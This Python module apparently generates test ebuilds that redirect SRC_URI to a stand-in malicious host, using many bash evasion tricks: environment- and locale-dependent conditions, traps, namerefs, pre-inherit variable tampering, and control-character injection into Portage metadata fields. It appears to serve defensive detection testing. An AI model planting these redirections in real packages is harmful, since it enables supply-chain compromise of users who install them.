"""Variables and options that Portage has where it sources an ebuild, and what an ebuild does to its own."""

from ..overlay import EVIL, HERON


def _probe(change, condition):
    form = change.one([
        "{0} && SRC_URI={1}", "if {0}; then SRC_URI+=' {1} -> x'; fi", "{0} || SRC_URI={1}", "while {0}; do SRC_URI={1}; break; done", "if ! {0}; then SRC_URI={1}; fi",
    ])  # fmt: skip
    change.manifest("x")
    change.lines(form.format(condition, EVIL))


def seen(change):
    """A variable that the ebuild did not set."""
    name = change.one(change.ingredients.variables + ["XARGS", "SANDBOX_ON", "USE_EXPAND", "RANDOM_NAME", "CHOST", "PKG_INSTALL_MASK"])
    _probe(change, change.one([
        "[[ -n ${{{0}}} ]]", "[[ -v {0} ]]", "[[ ${{{0}}} == *[a-z]* ]]", "(( ${{#{0}}} > 1 ))", "[[ ${{{0}+x}} ]]", "[ \"x${{{0}}}\" != x ]", "[[ ${{{0}@a}} == *x* ]]",
        "[[ $( echo \"${{{0}}}\" ) ]]", "[[ ${{{0}[0]}} ]]", "test -n \"${{{0}:0:1}}\"", "[[ ${{!{0}}} ]]", "[[ ${{{0}^^}} != ${{{0},,}} ]]", "case ${{{0}}} in ?*) true;; *) false;; esac",
    ]).format(name))  # fmt: skip


def within_a_uri(change):
    """The same, in the text of SRC_URI."""
    name = change.one(change.ingredients.variables + ["XARGS", "PYTHON_TARGETS"])
    change.manifest("x")
    change.lines(change.one([
        "SRC_URI+=\" ${{{0}:+{1} -> x}}\"", "SRC_URI=\"${{SRC_URI/${{{0}:0:0}}files/evil}}\"", "SRC_URI=\"${{{0}-${{SRC_URI}}}}\"", "SRC_URI=\"${{SRC_URI}}${{{0}:+.x}}\"",
        "SRC_URI=\"https://files.pythonhosted.org${{{0}:+.evil.example}}/packages/source/h/heron-parser/heron_parser-1.5.0.tar.gz\"", "SRC_URI=${{SRC_URI%%${{{0}}}}}",
    ]).format(name, EVIL))  # fmt: skip


def state(change):
    """The shell's own state."""
    _probe(change, change.one([
        "[[ $- == *f* ]]", "[[ $- == *h* ]]", "[[ $- == *B* ]]", "[[ -o errexit ]]", "[[ -o noglob ]]", "[[ -o posix ]]", "shopt -q extglob", "shopt -q failglob", "shopt -q expand_aliases",
        "shopt -q nullglob", "shopt -q sourcepath", "[[ $# -gt 0 ]]", "[[ -n $1 ]]", "[[ $0 == *ebuild* ]]", "[[ ${BASH_SOURCE[0]} == *.ebuild ]]", "[[ ${#BASH_SOURCE[@]} -gt 1 ]]",
        "[[ ${FUNCNAME[0]} == source ]]", "(( ${#FUNCNAME[@]} ))", "(( SHLVL > 1 ))", "(( BASH_SUBSHELL ))", "[[ $_ ]]", "[[ $? -eq 0 ]]", "[[ $! ]]", "[[ $PPID -gt 1 ]]", "(( LINENO > 10 ))",
        "[[ ${PWD} == / ]]", "[[ ${HOME} == /root* ]]", "[[ ${PATH} == *portage* ]]", "[[ ${LC_ALL} ]]", "[[ ${#DIRSTACK[@]} -gt 0 ]]", "(( EUID ))", "(( UID == 65534 ))", "[[ ${BASH_VERSINFO[0]} -ge 5 ]]",
        "[[ ${OSTYPE} == linux* ]]", "[[ ${MACHTYPE} ]]", "[[ ${HOSTNAME} ]]", "[[ ${IFS} == *' '* ]]", "[[ ${OPTIND} == 1 ]]", "[[ ${COLUMNS} ]]", "[[ -t 1 ]]", "[[ -e /dev/null ]]", "[[ -d ${FILESDIR} ]]",
        "(( SECONDS < 9 ))", "[[ ${EPOCHSECONDS} -gt 1 ]]", "[[ ${BASH_ARGC[0]} ]]", "[[ ${BASH_COMMAND} ]]", "[[ ${SHELLOPTS} == *braceexpand* ]]", "[[ ${BASHOPTS} == *extglob* ]]", "[[ ${BASH_EXECUTION_STRING} ]]",
        "[[ ${GROUPS} ]]", "[[ ${PIPESTATUS[0]} == 0 ]]", "[[ ${REPLY} ]]", "[[ ${MAPFILE} ]]", "[[ ${EBUILD_PHASE_FUNC} ]]", "[[ ${A} ]]", "[[ ${AA} ]]", "[[ ${D} ]]", "[[ ${T} ]]", "[[ ${WORKDIR} ]]", "[[ ${S} == */work/* ]]",
        "[[ ${USE} ]]", "[[ ${ROOT} == / ]]", "[[ ${EROOT} ]]", "[[ ${MERGE_TYPE} ]]", "[[ ${REPLACING_VERSIONS} ]]", "[[ ${ED} ]]", "[[ ${EBUILD_PHASE} == depend ]]", "[[ ${ARCH} ]]", "[[ ${EAPI} == 8 ]]",
    ]))  # fmt: skip


def locale(change):
    """What depends on the locale."""
    _probe(change, change.one([
        "[[ \u00e9 == ? ]]", "X=\u00e9; (( ${#X} == 1 ))", "X=\u00e9; [[ ${X^^} == \u00c9 ]]", "[[ a < B ]]", "[[ B < a ]]", "[[ \u00e9 == [[:alpha:]] ]]", "[[ b == [A-C] ]]", "X=$'\\u00e9'; (( ${#X} == 1 ))",
        "[[ \u00e9 =~ ^.$ ]]", "X=\u0130; [[ ${X,} == i ]]", "[[ $(printf '%d' \"'\u00e9\") == 233 ]]", "[[ \u00e9 == [a-z] ]]", "X=\u00e9x; [[ ${X:1} == x ]]", "[[ ${X-\u00df} == [[:lower:]] ]]",
    ]))  # fmt: skip


def own(change):
    """What pypi.eclass reads, set beforehand in a way that bash minds."""
    change.before_inherit(change.one([
        "declare -u PYPI_PN=heron-parser", "declare -l PV", "PV=1.4.0", "PN=egret-cache", "P=x-1", "declare -i PV", "PYPI_PN=heron-parser@evil.example", "PYPI_PN=../x", "PYPI_PN=heron.parser",
        "PYPI_PN='heron parser'", "PYPI_NO_NORMALIZE=1 PYPI_PN=Heron.Parser", "declare -a PYPI_PN=( heron-parser x )", "declare -A PYPI_PN=( [0]=heron-parser )", "declare -n PYPI_PN=PN", "_PYPI_ECLASS=1",
        "readonly SRC_URI=x", "declare -r PYPI_PN=heron-parser", "declare -u SRC_URI", "declare -i SRC_URI", "declare -a SRC_URI", "local SRC_URI", "SRC_URI=( a b )", "unset PV", "unset PN", "export PV=1.5.0",
        "PYPI_PN=Heron_Parser", "shopt -s nocasematch", "shopt -u extglob", "shopt -s extglob", "set -u", "set -e", "set -o posix", "set -- a b", "shopt -s compat31", "shopt -s patsub_replacement", "set -f", "set +B", "set -k",
        "PYPI_VERIFY_REPO=https://github.com/evil/x", "BASH_COMPAT=4.2", "LC_ALL=C", "LC_ALL=tr_TR.UTF-8", "POSIXLY_CORRECT=1", "GLOBIGNORE=x", "set -n", "shopt -s localvar_inherit", "shopt -s lastpipe", "PV=1.5.0_p",
    ]))  # fmt: skip


def later(change):
    """SRC_URI, set on a way that is not an assignment."""
    change.lines(change.one([
        "trap 'SRC_URI={0}' EXIT", "trap 'SRC_URI={0}' DEBUG", "trap 'SRC_URI={0}' RETURN", "trap 'SRC_URI={0}' ERR; false", "trap 'SRC_URI={0}' SIGCHLD; (:)", "declare -n X=SRC_URI; X={0}",
        "printf -v SRC_URI %s {0}", "read -r SRC_URI <<< {0}", "mapfile -t SRC_URI <<< {0}", "for SRC_URI in {0}; do :; done", "select SRC_URI in {0}; do break; done <<< 1", "getopts x SRC_URI", "SRC_URI[0]={0}",
        "declare SRC_URI={0}", "export SRC_URI={0}", "readonly SRC_URI={0}", "local SRC_URI={0}", "eval SRC_URI={0}", ": ${{X:=${{SRC_URI:={0}}}}}", "unset SRC_URI; : ${{SRC_URI:={0}}}", "let SRC_URI=1", "(( SRC_URI = 1 ))",
        "coproc SRC_URI {{ :; }}", "wait -p SRC_URI", "exec {{SRC_URI}}>/dev/null", "shopt -s expand_aliases; alias x='SRC_URI={0}'\nx", "X='a[$(SRC_URI={0})]'; (( X ))", "BASH_ENV=x; SRC_URI+=' ' {0}", "declare -u SRC_URI",
        "typeset SRC_URI={0}", "builtin declare SRC_URI={0}", "command export SRC_URI={0}", "SRC_URI={0} :", "SRC_URI={0} export X", "SRC_URI={0} eval :", "{{ SRC_URI={0}; }} | :", "shopt -s lastpipe; : | SRC_URI={0}",
        "( SRC_URI={0} )", "! SRC_URI={0}", "time SRC_URI={0}", "SRC_URI={0} &", "[[ x =~ (x) ]]; SRC_URI=${{BASH_REMATCH[1]/x/{0}}}", "set -o allexport; SRC_URI={0}", "f() {{ local SRC_URI; SRC_URI={0}; }}; f",
        "f() {{ declare -g SRC_URI={0}; }}; f", "f() {{ SRC_URI={0}; return 1; }}; f || :", "f() ( SRC_URI={0} ); f", "f() {{ unset SRC_URI; }}; f; SRC_URI=${{SRC_URI-{0}}}", "exit 0\nSRC_URI={0}", "return 0\nSRC_URI={0}",
        "echo SRC_URI={0} >&${{PORTAGE_PIPE_FD}}", "echo SRC_URI={0} >&${{PORTAGE_PIPE_FD}}; exit 0", "PORTAGE_EXPLICIT_INHERIT=$'x\\vSRC_URI={0}'", "INHERITED+=$'\\vSRC_URI={0}'", "PORTAGE_PIPE_FD=2", "EBUILD_PHASE=x",
        "metadata_keys=( x )", "f=SRC_URI", "readonly f=1", "E_RESTRICT=$'x\\fSRC_URI={0}'", "DEFINED_PHASES=$'x\\vSRC_URI={0}'", "EAPI=7", "declare -r EAPI", "unset EAPI", "EAPI=$'8\\vSRC_URI={0}'",
        "src_unpack() {{ SRC_URI={0}; }}", "pkg_pretend() {{ :; }}", "exec {{PORTAGE_PIPE_FD}}>&-", "INHERIT=x", "E_DEPEND='x y'", "E_IUSE=$'\\x1cSRC_URI={0}'", "E_PROPERTIES=$'\\x1dSRC_URI={0}'",
        "E_REQUIRED_USE=$'\\x1eSRC_URI={0}'", "B_RESTRICT=$'\\vSRC_URI={0}'", "ECLASS=x", "SANDBOX_LOG=/dev/null", "PORTAGE_BIN_PATH=/x", "PATH=/x", "SRC_URI={0}; declare -p SRC_URI >/dev/null; unset -f x; SRC_URI=${{SRC_URI}}",
    ]).format(EVIL))  # fmt: skip


def of_a_revision(change):
    """The same sources in a new revision, or in another way to write them."""
    text = change.text(HERON + b"/heron-parser-1.4.0.ebuild")
    change.write(HERON + b"/heron-parser-1.4.0-r1.ebuild", text + change.one([b"", b"SRC_URI=${SRC_URI}\n", b"[[ ${PR} == r1 ]] && SRC_URI=%s\n" % EVIL.encode(), b"[[ ${PVR} != ${PV} ]] && SRC_URI=%s\n" % EVIL.encode()]))
